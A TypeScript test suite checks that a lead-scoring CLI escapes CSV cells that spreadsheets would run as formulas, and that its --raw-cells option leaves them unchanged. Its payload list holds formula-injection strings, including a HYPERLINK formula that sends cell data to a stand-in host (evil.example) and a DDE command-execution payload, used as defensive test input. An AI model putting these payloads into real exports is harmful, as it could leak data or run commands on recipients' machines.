import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { useCliWorkspace } from './synthetic-leads.js';

const ws = useCliWorkspace('leadlift-formula-cells-');
let model = '';
let input = '';

// The security review's payloads (web-form fields in a CRM export), in the text columns and in
// two extra columns the model does not use; visits holds plain signed numbers.
const PAYLOADS = [
  { source: '=HYPERLINK("http://evil.example/?"&A1,"click")', visits: '-1.8', email: "=cmd|' /C calc'!A0", note: '+1+1' },
  { source: '@SUM(1+1)', visits: '+3', email: '-2+3', note: '=1+1' },
  { source: '\t=1+1', visits: '-1,8', email: '\r=2+2', note: 'plain text' },
];

function quoted(cell: string): string {
  return `"${cell.replaceAll('"', '""')}"`;
}

beforeAll(() => {
  model = join(ws.dir, 'model.json');
  const t = ws.run(['train', '--input', ws.csv, '--label', 'converted', '--order', 'created', '--exclude', 'id', '--output', model]);
  expect(t.status, t.stderr).toBe(0);
  input = join(ws.dir, 'injected.csv');
  const lines = ['id,created,source,visits,country,converted,email,note'];
  PAYLOADS.forEach((p, i) => lines.push([`X${i}`, '2024-12-01', quoted(p.source), quoted(p.visits), 'PT', 'no', quoted(p.email), quoted(p.note)].join(',')));
  writeFileSync(input, `${lines.join('\n')}\n`);
});

function scoreTo(name: string, extra: string[] = []): Array<Record<string, string>> {
  const output = join(ws.dir, name);
  const r = ws.run(['score', '--input', input, '--model', model, '--output', output, ...extra]);
  expect(r.status, r.stderr).toBe(0);
  return parse(readFileSync(output, 'utf8'), { columns: true, relax_column_count: false }) as Array<Record<string, string>>;
}

describe('leadlift score --output and CSV formula injection', () => {
  it("puts a ' before every cell a spreadsheet would run as a formula, the reasons too, and leaves numbers alone", () => {
    const records = scoreTo('safe.csv');
    expect(records).toHaveLength(PAYLOADS.length);
    records.forEach((rec, i) => {
      const p = PAYLOADS[i];
      expect(rec.source).toBe(`'${p.source}`);
      expect(rec.email).toBe(`'${p.email}`);
      expect(rec.note).toBe(p.note.startsWith('+') || p.note.startsWith('=') ? `'${p.note}` : p.note);
      // A plain number, signed or with a decimal comma, is no formula: it stays a number.
      expect(rec.visits).toBe(p.visits);
      expect(rec.leadlift_probability).toMatch(/^0\.\d{4}$/);
      expect(rec.leadlift_score).toMatch(/^\d+$/);
      // Reasons open with "+N …" or "-N …", which Excel would read as a formula.
      expect(rec.leadlift_reasons).toMatch(/^'[+-]\d+ /);
    });
    // No cell of the file starts with a formula character any more, but for plain numbers.
    for (const cell of records.flatMap((r) => Object.values(r))) {
      expect(/^[=+\-@\t\r]/.test(cell) && !/^[+-]\d+([.,]\d+)?$/.test(cell), JSON.stringify(cell)).toBe(false);
    }
  });

  it('--raw-cells writes every cell unchanged, for programs that read the file', () => {
    const records = scoreTo('raw.csv', ['--raw-cells']);
    records.forEach((rec, i) => {
      expect(rec.source).toBe(PAYLOADS[i].source);
      expect(rec.email).toBe(PAYLOADS[i].email);
      expect(rec.leadlift_reasons).toMatch(/^[+-]\d+ /);
    });
  });

  it('--help says so, and a misspelt --raw-cell is pointed to --raw-cells', () => {
    const help = ws.run(['score', '--help']);
    expect(help.stdout).toContain('--raw-cells');
    expect(help.stdout).toContain('formula');
    const typo = ws.run(['score', '--input', input, '--model', model, '--output', join(ws.dir, 'x.csv'), '--raw-cell']);
    expect(typo.status).toBe(2);
    expect(typo.stderr).toContain('(Did you mean --raw-cells?)');
  });
});
